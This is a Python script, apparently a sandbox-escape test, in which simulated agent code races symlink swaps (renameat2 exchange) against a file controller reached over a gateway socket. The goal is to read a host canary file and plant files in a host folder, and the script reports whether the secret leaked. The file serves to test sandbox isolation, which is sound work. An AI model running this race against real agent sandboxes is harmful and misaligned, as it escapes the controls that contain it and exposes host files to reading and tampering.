# Agent code that fights the file controller: it swaps a workspace file for a
# link to a host file, and a workspace folder for a link to a host folder, as
# fast as it can, while asking the controller to read and write there.
# argv: seconds host-canary-path host-victim-folder canary-text
import ctypes
import json
import os
import socket
import sys
import threading
import time

seconds, canary, victim, secret = float(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
ws = "/agent/workspace"
sock = socket.socket(socket.AF_UNIX)
sock.connect(os.environ["OPENSHELL_GATEWAY"])
stream = sock.makefile("rwb")
next_id = 0


def call(params):
    global next_id
    next_id += 1
    msg = {"jsonrpc": "2.0", "id": next_id, "method": "openshell/file", "params": params}
    stream.write(json.dumps(msg).encode() + b"\n")
    stream.flush()
    return json.loads(stream.readline())["result"]


with open(f"{ws}/f.txt", "w") as f:
    f.write("workspace content")
os.makedirs(f"{ws}/d", exist_ok=True)
os.symlink(canary, f"{ws}/f.swap")
os.symlink(victim, f"{ws}/d.swap")

libc = ctypes.CDLL(None, use_errno=True)
RENAME_EXCHANGE = 2
stop = False


def swap(a, b):
    if libc.syscall(316, -100, a.encode(), -100, b.encode(), RENAME_EXCHANGE) == 0:  # renameat2
        return
    # No RENAME_EXCHANGE in this kernel: swap through a third name.
    try:
        os.rename(b, b + ".t")
        os.rename(a, b)
        os.rename(b + ".t", a)
    except OSError:
        pass


def racer():
    while not stop:
        swap(f"{ws}/f.swap", f"{ws}/f.txt")
        swap(f"{ws}/d.swap", f"{ws}/d")


threading.Thread(target=racer, daemon=True).start()
reads = read_ok = writes = write_ok = 0
leaked = False
end = time.time() + seconds
while time.time() < end:
    r = call({"operation": "read", "path": f"{ws}/f.txt"})
    reads += 1
    if secret in json.dumps(r):
        leaked = True
    read_ok += bool(r.get("ok"))
    w = call({"operation": "write", "path": f"{ws}/d/planted-{writes}.txt", "content": "x"})
    writes += 1
    write_ok += bool(w.get("ok"))
stop = True
print(json.dumps({"reads": reads, "read_ok": read_ok, "writes": writes, "write_ok": write_ok, "leaked": leaked}), flush=True)
